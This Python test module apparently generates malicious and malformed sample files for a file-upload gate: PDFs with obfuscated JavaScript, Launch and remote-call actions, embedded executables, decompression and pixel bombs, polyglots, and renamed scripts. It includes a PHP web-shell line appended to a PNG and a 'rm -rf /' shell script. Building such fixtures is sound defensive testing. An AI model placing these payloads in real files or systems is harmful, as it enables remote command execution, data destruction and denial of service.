"""PDFs that act, pictures that explode, and everything that came under a false name."""

import io
import struct
import zlib

from tests.gate.forge import Families, jpeg, packed, pdf, pdf_stream, png, word

OTHER_FAMILIES = Families()
add = OTHER_FAMILIES.add


@add("pdf_lenh")
def pdf_javascript() -> bytes:
    return pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")


@add("pdf_lenh")
def pdf_javascript_spelled_with_escapes() -> bytes:
    return pdf(catalog="/OpenAction << /S /Java#53cript /J#53 (1) >>")


@add("pdf_lenh")
def pdf_javascript_name_in_an_object_of_its_own() -> bytes:
    return pdf({20: "/Jav#61Script", 21: "<< /S 20 0 R >>"}, catalog="/OpenAction 21 0 R")


@add("pdf_lenh")
def pdf_javascript_in_an_object_stream() -> bytes:
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction = document.make_indirect(action)
    buffer = io.BytesIO()
    document.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in buffer.getvalue()
    return buffer.getvalue()


@add("pdf_lenh")
def pdf_javascript_in_an_earlier_revision() -> bytes:
    first = pdf({20: "<< /S /JavaScript /JS (1) >>"})
    place = len(first)
    update = b"20 0 obj\nnull\nendobj\n"
    table = b"xref\n20 1\n%010d 00000 n \n" % place
    start = place + len(update)
    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    trailer = b"trailer\n<< /Size 21 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, start)
    return first + update + table + trailer


@add("pdf_mo_ngoai")
def pdf_launch() -> bytes:
    return pdf(page="/AA << /O << /S /Launch /F (cmd.exe) >> >>")


@add("pdf_mo_ngoai")
def pdf_opens_a_remote_file() -> bytes:
    return pdf(catalog="/OpenAction << /S /GoToR /F (\\\\\\\\10.0.0.9\\\\a) /D [0 /Fit] >>")


@add("pdf_mo_ngoai")
def pdf_stream_kept_outside() -> bytes:
    return pdf({20: pdf_stream("/F (\\\\\\\\10.0.0.9\\\\a)", b"")})


@add("pdf_dinh_kem")
def pdf_embedded_file() -> bytes:
    files = "<< /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 20 0 R >> >>] >> >>"
    return pdf({20: pdf_stream("/Type /EmbeddedFile", b"MZ")}, catalog=f"/Names {files}")


@add("pdf_dinh_kem")
def pdf_attachment_annotation() -> bytes:
    return pdf(page="/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] >>]")


@add("pdf_dinh_kem")
def pdf_portfolio() -> bytes:
    return pdf(catalog="/Collection << /View /D >>")


@add("pdf_bieu_mau")
def pdf_xfa_form() -> bytes:
    return pdf({20: pdf_stream("", b"<xdp/>")}, catalog="/AcroForm << /Fields [] /XFA 20 0 R >>")


@add("pdf_gui_di")
def pdf_submit_form() -> bytes:
    return pdf(page="/AA << /O << /S /SubmitForm /F (http://10.0.0.9/) >> >>")


@add("pdf_phim")
def pdf_rich_media() -> bytes:
    return pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>]")


@add("pdf_phim")
def pdf_movie_action() -> bytes:
    return pdf(page="/AA << /O << /S /Rendition /OP 0 >> >>")


@add("pdf_lien_ket")
def pdf_link_to_a_file() -> bytes:
    return pdf(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/a.exe) >> >>]")


@add("pdf_lien_ket")
def pdf_that_calls_an_address_when_opened() -> bytes:
    return pdf({20: "<< /S /URI /URI (http://10.0.0.9/) >>"}, catalog="/OpenAction 20 0 R")


@add("pdf_lien_ket")
def pdf_page_that_calls_an_address_when_shown() -> bytes:
    return pdf({20: "<< /S /URI /URI (http://10.0.0.9/) >>"}, page="/AA << /O 20 0 R >>")


def _encrypted(user: str) -> bytes:
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page()
    buffer = io.BytesIO()
    document.save(buffer, encryption=pikepdf.Encryption(owner="chu", user=user))
    return buffer.getvalue()


@add("mat_khau")
def pdf_with_password() -> bytes:
    return _encrypted("mat-khau")


@add("mat_khau")
def pdf_with_restrictions() -> bytes:
    return _encrypted("")


@add("pdf_khong_trang")
def pdf_without_pages() -> bytes:
    return pdf(pages=0)


@add("tep_cut")
def pdf_truncated() -> bytes:
    whole = pdf({20: pdf_stream("", b"x" * 5000)})
    return whole[: len(whole) // 2]


@add("pdf_phien_ban")
def pdf_with_many_revisions() -> bytes:
    first = pdf()
    start = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    for _ in range(60):
        table = b"xref\n0 0\ntrailer\n<< /Size 11 /Root 1 0 R /Prev %d >>\n" % start
        start = len(first)
        first += table + b"startxref\n%d\n%%%%EOF\n" % start
    return first


@add("pdf_bom")
def pdf_stream_bomb() -> bytes:
    return pdf(
        {20: pdf_stream("/Filter /FlateDecode", zlib.compress(bytes(60 * 1024 * 1024)))},
        page="/Contents 20 0 R",
    )


@add("pdf_bom")
def pdf_stream_packed_twice() -> bytes:
    content = zlib.compress(zlib.compress(bytes(1024 * 1024)))
    return pdf({20: pdf_stream("/Filter [/FlateDecode /FlateDecode]", content)})


@add("pdf_hong")
def pdf_object_stream_bomb() -> bytes:
    """The library unpacks this one by itself while it opens the file."""
    bomb = zlib.compress(b"50 0 " + b" " * (100 * 1024 * 1024) + b"<< >>")
    body = bytearray(b"%PDF-1.5\n")
    places = [0]
    stream = pdf_stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", bomb)
    for number, written in enumerate((b"<< /Type /Catalog /Pages 4 0 R >>", stream), 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    rows = [(0, 0, 255), (1, places[1], 0), (1, places[2], 0), (1, len(body), 0), (2, 2, 0)]
    table = b"".join(struct.pack(">BLB", *row) for row in rows)
    start = len(body)
    entries = "/Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R"
    body += b"3 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (pdf_stream(entries, table), start)
    return bytes(body)


@add("pdf_bom")
def pdf_object_stream_bomb_beside_sound_objects() -> bytes:
    """Nothing needs the bomb, so the library opens the file without a word."""
    bomb = zlib.compress(b"50 0 " + b" " * (60 * 1024 * 1024) + b"<< >>")
    return pdf({20: pdf_stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", bomb)})


@add("anh_lon")
def pdf_picture_bomb() -> bytes:
    size = "/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    return pdf({20: pdf_stream(f"{size} /Filter /FlateDecode", zlib.compress(bytes(1000)))})


@add("pdf_hong")
def pdf_of_nonsense() -> bytes:
    return b"%PDF-1.7\n" + b"nonsense\n" * 50 + b"startxref\n7\n%%EOF\n"


@add("hai_loai")
def pdf_with_an_archive_behind() -> bytes:
    return pdf() + packed({"a.exe": b"MZ"}) + b""


@add("hai_loai")
def pdf_with_a_web_page_behind() -> bytes:
    return pdf() + b"\n<html><script>alert(1)</script></html>"


@add("hai_loai")
def pdf_with_a_program_behind() -> bytes:
    return pdf() + b"MZ\x90\x00" + bytes(100)


@add("anh_lon")
def png_pixel_bomb() -> bytes:
    return png(20_000, 20_000, rows=bytes(1000))


@add("anh_hong")
def png_truncated() -> bytes:
    whole = png(200, 200)
    return whole[: len(whole) - 20]


@add("anh_hong")
def png_with_too_few_rows() -> bytes:
    return png(500, 500, rows=bytes(501 * 20))


@add("anh_hong")
def png_with_wrong_checksum() -> bytes:
    whole = bytearray(png(50, 50))
    whole[30] ^= 0xFF
    return bytes(whole)


@add("anh_lon")
def png_text_bomb() -> bytes:
    return png(10, 10, extra=[(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(50 * 1024 * 1024), 9))])


@add("anh_khac")
def png_animation() -> bytes:
    return png(10, 10, extra=[(b"acTL", struct.pack(">LL", 1000, 0))])


@add("anh_thua")
def png_with_a_script_behind() -> bytes:
    return png(10, 10) + b"<?php system($_GET[0]); ?>"


@add("hai_loai")
def png_with_an_archive_behind() -> bytes:
    return png(10, 10) + word()


@add("anh_lon")
def jpeg_pixel_bomb() -> bytes:
    whole = bytearray(jpeg())
    frame = whole.index(b"\xff\xc0")
    whole[frame + 5 : frame + 9] = struct.pack(">HH", 29_000, 29_000)
    return bytes(whole)


@add("anh_hong")
def jpeg_truncated() -> bytes:
    whole = jpeg(800, 600)
    return whole[: len(whole) // 2]


@add("anh_lon")
def jpeg_with_thousands_of_scans() -> bytes:
    whole = jpeg(progressive=True)
    scan = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + scan * 500 + whole[-2:]


@add("anh_thua")
def jpeg_with_a_program_behind() -> bytes:
    return jpeg() + b"MZ\x90\x00" + bytes(100)


@add("anh_hong")
def jpeg_header_alone() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(9)


@add("chuong_trinh")
def program_renamed() -> bytes:
    return b"MZ\x90\x00\x03" + bytes(500)


@add("chuong_trinh")
def script_renamed() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


@add("tep_rong")
def empty_file() -> bytes:
    return b""


def _ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + stream.encode("utf-16-le") + bytes(100)


@add("doc_cu")
def old_word() -> bytes:
    return _ole("WordDocument")


@add("xls_cu")
def old_excel() -> bytes:
    return _ole("Workbook")


@add("mat_khau")
def office_file_with_password() -> bytes:
    return _ole("EncryptedPackage")


@add("ole_cu")
def other_container() -> bytes:
    return _ole("Installer")


@add("heic")
def telephone_picture() -> bytes:
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100)


@add("am_thanh_phim")
def film() -> bytes:
    return b"\x00\x00\x00\x18ftypisom" + bytes(100)


@add("anh_khac")
def webp_picture() -> bytes:
    return b"RIFF\x00\x01\x00\x00WEBPVP8 " + bytes(100)


@add("anh_khac")
def gif_picture() -> bytes:
    return b"GIF89a" + bytes(100)


@add("svg")
def svg_picture() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@add("html")
def html_renamed() -> bytes:
    return b"\xef\xbb\xbf\r\n<!DOCTYPE html><html><script>alert(1)</script></html>"


@add("html")
def web_archive() -> bytes:
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html></html>"


@add("xml")
def old_word_xml() -> bytes:
    return b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="x"/>'


@add("rtf")
def rich_text() -> bytes:
    return b"{\\rtf1\\ansi{\\object\\objdata 0105}}"


@add("tep_nen")
def rar_archive() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + bytes(100)


@add("van_ban_tho")
def plain_text() -> bytes:
    return "Báo cáo sơ kết phong trào thi đua\n".encode() * 200


@add("khong_ro_loai")
def random_bytes() -> bytes:
    return bytes(range(128, 256)) * 8
